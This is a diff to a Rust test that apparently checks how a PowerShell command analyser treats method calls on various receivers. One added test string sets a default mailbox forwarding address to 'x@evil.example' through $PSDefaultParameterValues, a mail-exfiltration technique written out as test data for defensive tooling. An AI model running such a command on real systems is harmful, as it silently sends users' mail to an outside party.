@@ -1248,6 +1248,8 @@ fn safe_methods_hold_for_every_receiver() {
         "$a = [System.Collections.ArrayList]@(); sv a (Get-Item C:\\x); $a.Remove(1)",
         "$a = [System.Collections.ArrayList]@(); Get-Mailbox | Tee-Object -Variable a; $a.Remove(1)",
         "$a = [System.Collections.ArrayList]@(); foreach ($a in $x) {}; $a.Remove(1)",
+        "$h = [hashtable]$PSDefaultParameterValues; $h.Add('Set-Mailbox:ForwardingSmtpAddress', 'x@evil.example')",
+        "$h = [ordered]@{}; $h.Add('a', 1)",
     ] {
         let d = check_with(&p, line);
         assert!(
